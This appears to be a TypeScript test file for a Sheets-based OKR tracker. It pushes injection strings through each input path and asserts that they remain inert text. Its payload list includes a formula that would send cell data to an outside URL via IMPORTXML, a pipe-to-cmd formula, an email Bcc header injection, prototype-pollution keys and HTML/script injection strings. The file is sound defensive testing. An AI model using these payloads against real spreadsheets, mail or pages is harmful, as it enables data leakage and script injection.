/** Strings that break programs, through every field that takes text: they are text, and stay what they were. */
import naughty from 'big-list-of-naughty-strings';
import { JSDOM } from 'jsdom';
import type { LocalSheets } from '../../local/index';
import type { MailPreview, PlanView } from '../../src/protocol/messages';
import { EVERY, SEED } from '../seed';
import { ask, copyOf, tracker } from '../sweep/situation';

/** Formulas in every dress, headers, prototype keys, half characters, marks that turn the line round. */
const OWN = [
  '=IMPORTXML("https://example.com/?"&A1,"//a")',
  '+1+1|cmd',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  'Subject: x\r\nBcc: thief@example.com',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'half \uD83D a face',
  '\u202Eevil\u202C',
  '<style>*{display:none}</style>',
  '</textarea><img src=x onerror="document.title=1">',
  '{{x}} <?= x ?> $& $1',
];
const ALL: readonly string[] = [...OWN, ...naughty.filter((text) => text.trim() !== '')];

/** Those of ours and a seeded sample of the list; EVERY=1: the whole list. */
const chosen = ALL.filter(
  (_, index) => EVERY || index < OWN.length || (index * 7 + SEED) % 40 === 0,
);

/** What a cell shows of a text: without space around it. */
const shown = (text: string): string => text.replace(/\r\n?/g, '\n').trim();

/** What its cell may show: where it could be a formula, Google may show the apostrophe that says it is none. */
const mayShow = (text: string): readonly string[] =>
  /^\s*[=+\-@']/.test(text) ? [shown(text), `'${shown(text)}`, `'${text}`.trim()] : [shown(text)];

const PLAN = 'Cut first reply in region 1 from 26 to 4 hours';

/** The ways in which text gets into a cell by the script, and where it then stands. */
const WAYS: Readonly<Record<string, (local: LocalSheets, text: string) => [string, string]>> = {
  'a wording that is taken'(local, text) {
    ask(local, { kind: 'use-wording', id: 'KR2', was: PLAN, text });
    return ['OKRs', 'B6'];
  },
  'the note of a check-in'(local, text) {
    const was = {
      text: PLAN,
      current: 18,
      confidence: null,
      note: '',
      measure: 'latest',
      unit: 'hours',
    };
    ask(local, { kind: 'check-in', entries: [{ id: 'KR2', was, note: text }] });
    return ['OKRs', 'L6'];
  },
  'a definition'(local, text) {
    const agreed = { source: '', agreedBy: '' };
    ask(local, { kind: 'add-definition', term: 'Reply', counts: text, ...agreed });
    return ['Definitions', 'B5'];
  },
  'a request put on hold'(local, text) {
    ask(local, { kind: 'add-not-now', request: text, askedBy: '', takesFrom: '' });
    return ['Not now', 'A5'];
  },
  'a new row'(local, text) {
    const row = { level: 'objective', text, under: null, cells: {}, owner: '', note: '' };
    ask(local, { kind: 'insert-row', row });
    return ['OKRs', 'B9'];
  },
};

describe(`naughty strings (SEED=${SEED})`, () => {
  let team: LocalSheets;
  beforeAll(async () => {
    team = await tracker('small');
  });

  test.each(Object.entries(WAYS))('as %s, each stands in its cell as text', async (way, write) => {
    const ways = Object.keys(WAYS);
    const mine = chosen.filter((_, index) => ways[index % ways.length] === way);
    for (const text of EVERY ? chosen : mine) {
      const local = await copyOf(team.standing());
      const [sheet, at] = write(local, text);
      expect(mayShow(text)).toContain(local.displayed(sheet, at)[0]?.[0]?.trim());
      expect(isFormula(local, sheet, at)).toBe(false);
    }
  });

  test('typed into the plan by people, they are reviewed, summarised and mailed as text', async () => {
    const local = await copyOf(team.standing());
    const rows = chosen.slice(0, 60).map((text) => [shown(text)]);
    local.typeIn('OKRs', 'B9', rows);
    local.typeIn('OKRs', 'L9', rows);
    local.typeIn(
      'OKRs',
      'M5',
      chosen.slice(0, 3).map((text) => [shown(text)]),
    );
    local.typeIn('Not now', 'A5', rows.slice(0, 20));
    local.typeIn('Definitions', 'A5', rows.slice(0, 20));
    const { plan } = ask(local, { kind: 'plan' }) as PlanView;
    const texts = new Set(plan.rows.map(({ text }) => text));
    // A leading apostrophe is how people say “this is text”: Sheets takes it away.
    const typed = rows.map(([text = '']) => text.replace(/^'/, '').trim());
    expect(typed.filter((text) => !texts.has(text))).toEqual([]);
    local.run('updateTheSummary');
    const { html, subject } = ask(local, { kind: 'mail-preview' }) as MailPreview;
    expect(subject).not.toMatch(/[\r\n]/);
    const { document } = new JSDOM(html).window as unknown as { readonly document: Document };
    const strange =
      'script, iframe, object, embed, link, img, svg, form, base, textarea, [onerror], [onload], [onclick]';
    expect(document.querySelectorAll(strange)).toHaveLength(0);
    expect(document.body.textContent).toContain(OWN[0]);
  });
});

function isFormula(local: LocalSheets, sheet: string, at: string): boolean {
  const { getters } = local.workbook.model;
  const id = getters.getSheetIds().find((one) => getters.getSheetName(one) === sheet) ?? '';
  const [, letter = 'A', row = '1'] = /^([A-Z]+)(\d+)$/.exec(at) ?? [];
  const cell = getters.getCell({
    sheetId: id,
    row: Number(row) - 1,
    col: letter.charCodeAt(0) - 65,
  });
  return cell?.isFormula === true;
}
